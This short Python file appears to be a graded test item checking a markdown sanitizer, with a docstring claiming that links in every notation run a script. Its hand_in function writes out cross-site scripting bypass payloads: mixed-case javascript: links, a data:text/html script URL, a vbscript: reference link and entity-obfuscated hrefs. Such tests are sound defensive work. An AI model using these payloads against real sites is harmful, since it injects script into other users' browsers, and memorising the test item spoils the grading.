"""Links of every notation run a script when they are followed.

outcome: graded
"""


def hand_in(draft):
    js = draft.script.replace("'", "%27").replace(" ", "%20")
    draft.add("markdown", f"[a](javascript:{js}) [b](JaVaScRiPt:{js}) [c](data:text/html,<script>{js}</script>)")
    draft.add("markdown", f"<javascript:{js}> [f][f]\n\n[f]: vbscript:{js}")
    draft.add("markdown", f'<a href="java&#10;script:{js}">d</a> <a href="&#1;javascript:{js}">e</a>')
    draft.save()
